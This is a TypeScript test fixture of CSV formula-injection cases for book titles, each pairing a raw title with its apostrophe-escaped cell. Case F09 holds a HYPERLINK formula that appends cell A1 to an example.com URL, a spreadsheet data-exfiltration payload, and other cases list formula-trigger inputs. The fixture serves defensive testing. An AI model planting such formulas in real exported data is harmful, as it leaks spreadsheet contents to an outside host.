type FormulaCase = {
  readonly id: string
  readonly title: string
  /** The title of a book. */
  readonly text: string
  /** The same in a CSV file. */
  readonly cell: string
}

/** Texts that spreadsheets execute as formulas, and texts that only look like them. Ids are permanent. */
export const FORMULAS: readonly FormulaCase[] = [
  { id: 'formulas/F01', title: 'an equals sign after an apostrophe', text: '=1+1', cell: "'=1+1" },
  { id: 'formulas/F02', title: 'a plus sign after an apostrophe', text: '+1', cell: "'+1" },
  { id: 'formulas/F03', title: 'a minus sign after an apostrophe', text: '-1', cell: "'-1" },
  { id: 'formulas/F04', title: 'an at sign after an apostrophe', text: '@SUM(A1)', cell: "'@SUM(A1)" },
  { id: 'formulas/F05', title: 'a tab after an apostrophe', text: '\t=1', cell: `"'\t=1"` },
  { id: 'formulas/F06', title: 'a carriage return after an apostrophe', text: '\r=1', cell: `"'\r=1"` },
  { id: 'formulas/F07', title: 'a line break after an apostrophe', text: '\n=1', cell: `"'\n=1"` },
  {
    id: 'formulas/F08',
    title: 'a full-width equals sign after an apostrophe',
    text: '＝1+1',
    cell: "'＝1+1",
  },
  {
    id: 'formulas/F09',
    title: 'a formula with separators and quotes in quotes',
    text: '=HYPERLINK("http://example.com?"&A1,"x")',
    cell: `"'=HYPERLINK(""http://example.com?""&A1,""x"")"`,
  },
  {
    id: 'formulas/F10',
    title: 'a title with an apostrophe of its own after another',
    text: "'=1",
    cell: "''=1",
  },
  { id: 'formulas/F11', title: 'a title with two apostrophes after another', text: "''=1", cell: "'''=1" },
  {
    id: 'formulas/F12',
    title: 'an apostrophe before a word unchanged',
    text: "'Tis Pity",
    cell: "'Tis Pity",
  },
  { id: 'formulas/F13', title: 'apostrophes alone unchanged', text: "''", cell: "''" },
  { id: 'formulas/F14', title: 'a formula inside a title unchanged', text: 'a=1', cell: 'a=1' },
  { id: 'formulas/F15', title: 'a formula after a semicolon in quotes', text: 'a;=1', cell: '"a;=1"' },
]
